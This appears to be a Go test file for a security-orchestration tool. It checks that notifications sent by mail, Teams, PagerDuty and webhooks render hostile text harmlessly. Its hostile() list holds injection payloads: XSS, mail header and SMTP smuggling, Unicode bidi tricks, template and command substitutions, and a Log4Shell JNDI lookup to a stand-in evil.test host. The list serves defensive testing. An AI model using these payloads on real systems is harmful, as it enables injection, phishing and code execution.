package way_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/tocsin-soar/tocsin/internal/connectors/teams"
	"github.com/tocsin-soar/tocsin/internal/notify"
	"github.com/tocsin-soar/tocsin/internal/notify/letter"
	"github.com/tocsin-soar/tocsin/internal/notify/way"
	"github.com/tocsin-soar/tocsin/internal/notify/way/waytest"
	"github.com/tocsin-soar/tocsin/internal/protocol"
	"github.com/tocsin-soar/tocsin/internal/soar"
)

// hostile are what attackers would write into names, titles and mails: each payload
// alone, and wrapped as it may come.
func hostile() (list []string) {
	payloads := []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `</p></td><h1>Approved</h1>`, `<a href="https://evil.test">log in</a>`, `<!--`, `]]>`,
		`<style>*{display:none}</style>`, `<base href=//evil.test>`, `<meta http-equiv=refresh content=0>`, `&lt;script&gt;`, `&#60;b&#62;`, `<form action=//evil.test><input name=token>`,
		"x\r\nBcc: victim@evil.test", "x\nSubject: Approved", "x\r\n\r\n<html>", "x\rFrom: ceo@soc.test", "x\u0085Bcc: a@evil.test", "x\u2028Bcc: a@evil.test", "=?utf-8?q?=0D=0ABcc:_a@evil.test?=", "x\r\n.\r\nMAIL FROM:<a@evil.test>",
		"a\u202egnp.exe", "\u2066hidden\u2069", "\u200fright to left", "z\u200bero\u200dwidth\ufeff", "soft\u00adhyphen", "tag\U000e0041\U000e0042", "variation\ufe0f", "\u061cmark", "nul\x00byte", "bell\x07", "esc\x1b[2Jclear", "\x9b31m", "bad utf8 \xff\xfe\xc0\xaf", "\ud7ff\ue000private",
		`**bold** _it_ [click](https://evil.test) ![i](https://evil.test/x.png)`, "# Heading", "> quote", "- item", "```code```", "| a | b |", `[x]: https://evil.test`, `<https://evil.test>`,
		`<https://evil.test|click here>`, `<!channel>`, `<@U0123ABCD>`, `<#C0123>`, `*bold* ~gone~`, `:rotating_light:`, `<!date^1392734382^x^https://evil.test|y>`,
		`{"type":"Action.OpenUrl","url":"https://evil.test"}`, `{{DATE(2017-02-14T06:00:00Z, SHORT)}}`, `<at>everyone</at>`, `${host}`, `@{triggerBody()}`, `"}],"actions":[{"type":"Action.Submit"}]`,
		`{{.Secret}}`, `{{ template "head" . }}`, `{{range .}}{{end}}`, `{%% if x %%}`, `%s%s%n%x`, `%!d(string=x)`, `$(id)`, "`id`", `${jndi:ldap://evil.test/a}`, `__import__('os')`,
		`https://xn--e1awd7f.test/login`, `https://раураl.test/`, `http://1.2.3.4/`, `javascript:alert(1)`, `data:text/html,<b>`, `HTTPS://EVIL.TEST`, `www.evil.test`, `ftp://evil.test/x`, `mailto:a@evil.test`, `//evil.test/x`, `tel:+1900`, `slack://open`, `https:/\evil.test`,
		strings.Repeat("A", 70000), strings.Repeat("ä", 9000), strings.Repeat("<", 9000), strings.Repeat("\n", 9000), strings.Repeat("{{", 5000), strings.Repeat("https://evil.test/ ", 800),
	}
	for _, payload := range payloads {
		list = append(list, payload, "Host ws-042 "+payload+" seen", payload+"\n"+payload)
	}
	return list
}

// intended is what a message says when it is written from hostile facts.
func intended(t *testing.T, letters *letter.Templates, text string, minimal bool) notify.Delivery {
	t.Helper()
	approval := soar.Approval{ID: "APR-0123456789", Title: text, Quorum: 1, Playbook: text, Shown: []soar.ShownAction{{Action: "edr.isolate", Title: text, Target: text, Why: text}}, Questions: []soar.Question{{AskedBy: soar.Actor{ID: text}, Text: text, Answer: text}}}
	incident := soar.Incident{ID: "INC-2026-0A1B2C", Title: text, Severity: soar.SeverityHigh, Category: soar.Category(text)}
	facts := letter.Facts{
		Kind: "approval_requested", Lead: letter.Lead("approval_requested"), Label: "TLP:AMBER", Minimal: minimal, Incident: letter.OfIncident(&incident, minimal),
		Approval: letter.OfApproval(&approval, nil, minimal), Commands: []string{"tocsin approval show APR-0123456789"}, Link: "https://tocsin.invalid/approve/x",
	}
	if !minimal {
		facts.Subject, facts.Body, facts.StandsFor = letter.Line(text), letter.Body(text), []string{letter.Line(text)}
	}
	written, err := letters.Write("", facts)
	if err != nil {
		t.Fatal(err)
	}
	return notify.Delivery{
		Key: "5a1c0e", Message: protocol.Message{ID: "m-1", IncidentID: "INC-2026-0A1B2C", Kind: "approval_requested", About: "APR-0123456789"}, TLP: soar.TLPAmber, Minimal: minimal,
		Incident: &incident, Person: soar.Person{ID: "lead@lab.invalid"}, Subject: written.Subject, Text: written.Text, HTML: written.HTML, Link: facts.Link, Template: written.Template, At: noon,
	}
}

var (
	addressForm = regexp.MustCompile(`(?i)[a-z]://|\bwww\.[a-z]|javascript:|data:text|mailto:`)
	tagForm     = regexp.MustCompile(`<[^>]*>`)
	ownTags     = []string{"!doctype", "html", "head", "meta", "title", "body", "div", "p", "strong", "h1", "br", "table", "tr", "th", "td", "a", "small", "pre"}
)

// unsafe tells what of a text should not be in it.
func unsafe(text string, lines bool) string {
	switch {
	case !utf8.ValidString(text):
		return "it is no UTF-8"
	case strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Co)) }):
		return "it holds what is not seen"
	case !lines && strings.Contains(text, "\n"):
		return "it is more than one line"
	}
	if found := addressForm.FindString(strings.ReplaceAll(text, "https://tocsin.invalid/approve/x", "")); found != "" {
		return "it holds an address: " + found
	}
	return ""
}

// TestHostile: whatever stands in names and titles, it comes out as text, by every way.
func TestHostile(t *testing.T) {
	t.Parallel()
	letters, faults := letter.Load("")
	if faults.HasErrors() {
		t.Fatal(faults)
	}
	all := hostile()
	if len(all) < 200 {
		t.Fatalf("only %d strings", len(all))
	}
	for i, text := range all {
		name := fmt.Sprintf("%d %.30q", i, text)
		if fault := unsafe(letter.Line(text), false); fault != "" || len(letter.Line(text)) > 600 {
			t.Errorf("%s: a line of %d bytes: %s", name, len(letter.Line(text)), fault)
		}
		if fault := unsafe(letter.Body(text), true); fault != "" || len(letter.Body(text)) > 9000 {
			t.Errorf("%s: a body of %d bytes: %s", name, len(letter.Body(text)), fault)
		}
		d := intended(t, letters, text, false)
		if fault := unsafe(d.Subject, false); fault != "" {
			t.Errorf("%s: subject: %s", name, fault)
		}
		if fault := unsafe(d.Text, true); fault != "" {
			t.Errorf("%s: text: %s", name, fault)
		}
		checkHTML(t, name, d.HTML)
		checkPlaces(t, name, d)
		reduced := intended(t, letters, "s3cret"+text, true)
		if strings.Contains(reduced.Subject+reduced.Text+reduced.HTML, "s3cret") {
			t.Errorf("%s: the label was to hold it back", name)
		}
	}
}

// checkHTML: only tags of the template, one link, which is ours.
func checkHTML(t *testing.T, name, rich string) {
	t.Helper()
	links := 0
	for _, tag := range tagForm.FindAllString(rich, -1) {
		word := strings.ToLower(strings.Trim(strings.FieldsFunc(tag+" ", func(r rune) bool { return r == ' ' || r == '>' })[0], "</>"))
		if !slices.Contains(ownTags, word) || strings.Contains(strings.ToLower(tag), " on") {
			t.Errorf("%s: HTML has the tag %s", name, tag)
		}
		if word == "a" && strings.Contains(tag, "href") {
			links++
		}
	}
	if links != 1 || !strings.Contains(rich, `href="https://tocsin.invalid/approve/x"`) {
		t.Errorf("%s: %d links", name, links)
	}
	if fault := unsafe(html.UnescapeString(tagForm.ReplaceAllString(rich, "")), true); fault != "" {
		t.Errorf("%s: HTML: %s", name, fault)
	}
}

// checkPlaces renders what goes to Teams, PagerDuty and webhooks.
func checkPlaces(t *testing.T, name string, d notify.Delivery) {
	t.Helper()
	body, err := teams.Body(way.TeamsArgs(d))
	if err != nil {
		t.Fatal(err)
	}
	lines, err := waytest.ReadTeams(body) // refuses every element that reads markup, or acts
	if err != nil || len(body) > 28<<10 {
		t.Errorf("%s: a card of %d bytes: %v", name, len(body), err)
	}
	for _, line := range lines {
		if fault := unsafe(line, false); fault != "" || strings.Contains(line, "{{") || strings.Contains(strings.ToLower(line), "<at>") || strings.Contains(line, "${") {
			t.Errorf("%s: Teams shows %.80q: %s", name, line, fault)
		}
	}
	for _, args := range []map[string]any{way.PagerArgs(d), way.WebhookArgs(d)} {
		raw, err := json.Marshal(args)
		if err != nil || len(raw) > 256<<10 {
			t.Errorf("%s: %d bytes, %v", name, len(raw), err)
		}
	}
	if summary, _ := way.PagerArgs(d)["summary"].(string); unsafe(summary, false) != "" || len(summary) > 1024 {
		t.Errorf("%s: a page of %d bytes: %s", name, len(summary), unsafe(summary, false))
	}
}

// TestHostileMail sends them all to a real mail server: each arrives as one mail with
// the headers that we set and no others, and says what it was meant to say.
func TestHostileMail(t *testing.T) {
	t.Parallel()
	letters, faults := letter.Load("")
	if faults.HasErrors() {
		t.Fatal(faults)
	}
	made, server := overMail(t)
	all := hostile()
	for i, text := range all {
		d := intended(t, letters, text, false)
		if err := made.Send(t.Context(), d); err != nil {
			t.Fatalf("%d %.30q: %v", i, text, err)
		}
		mails := server.Mails()
		if len(mails) != i+1 {
			t.Fatalf("%d %.30q: %d mails", i, text, len(mails))
		}
		checkMail(t, fmt.Sprintf("%d %.30q", i, text), mails[i], d)
	}
}

func checkMail(t *testing.T, name string, got waytest.Mail, d notify.Delivery) {
	t.Helper()
	var headers []string
	for header, values := range got.Header {
		if len(values) != 1 {
			t.Errorf("%s: %s comes %d times", name, header, len(values))
		}
		headers = append(headers, header)
	}
	slices.Sort(headers)
	if want := "Auto-Submitted Content-Type Date From Message-Id Mime-Version References Subject To"; strings.Join(headers, " ") != want {
		t.Errorf("%s: headers %v", name, headers)
	}
	if !slices.Equal(got.To, []string{"lead@lab.invalid"}) || got.From != "tocsin@soc.test" {
		t.Errorf("%s: from %s to %v", name, got.From, got.To)
	}
	args := way.MailArgs(d)
	subject, err := new(mime.WordDecoder).DecodeHeader(got.Header.Get("Subject"))
	if want := strings.Join(strings.Fields(args["subject"].(string)), " "); err != nil || subject != want {
		t.Errorf("%s: subject %.80q, want %.80q, %v", name, subject, want, err)
	}
	plain, rich := parts(t, name, got)
	if want := args["body"].(string); strings.TrimRight(plain, "\n") != strings.TrimRight(want, "\n") {
		t.Errorf("%s: text of %d bytes, want %d", name, len(plain), len(want))
	}
	if len(d.HTML) <= 128<<10 && strings.TrimSpace(rich) != strings.TrimSpace(d.HTML) {
		t.Errorf("%s: HTML of %d bytes, want %d", name, len(rich), len(d.HTML))
	}
}

// parts reads the two parts of a mail as a mail program does.
func parts(t *testing.T, name string, got waytest.Mail) (plain, rich string) {
	t.Helper()
	parsed, err := mail.ReadMessage(strings.NewReader(string(got.Raw)))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	media, params, err := mime.ParseMediaType(got.Header.Get("Content-Type"))
	if err != nil || media != "multipart/alternative" {
		t.Fatalf("%s: %s %v", name, media, err)
	}
	reader := multipart.NewReader(parsed.Body, params["boundary"])
	for {
		part, err := reader.NextRawPart()
		if errors.Is(err, io.EOF) {
			return plain, rich
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		body, err := io.ReadAll(quotedprintable.NewReader(part))
		if err != nil || part.Header.Get("Content-Transfer-Encoding") != "quoted-printable" {
			t.Fatalf("%s: %v", name, err)
		}
		text := strings.ReplaceAll(string(body), "\r\n", "\n")
		if strings.HasPrefix(part.Header.Get("Content-Type"), "text/html") {
			rich = text
		} else {
			plain = text
		}
	}
}
